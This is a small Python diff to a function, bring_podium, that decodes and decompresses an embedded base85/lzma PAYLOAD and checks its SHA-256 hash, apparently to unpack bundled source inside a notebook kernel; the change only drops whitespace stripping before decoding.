@@ -33,7 +33,7 @@ def bring_podium():
             "choose the latest environment in the kernel's settings"
         )
     try:
-        packed = lzma.decompress(base64.b85decode("".join(PAYLOAD.split())))
+        packed = lzma.decompress(base64.b85decode(PAYLOAD))
     except (ValueError, lzma.LZMAError):
         packed = b""
     if hashlib.sha256(packed).hexdigest() != SOURCES:
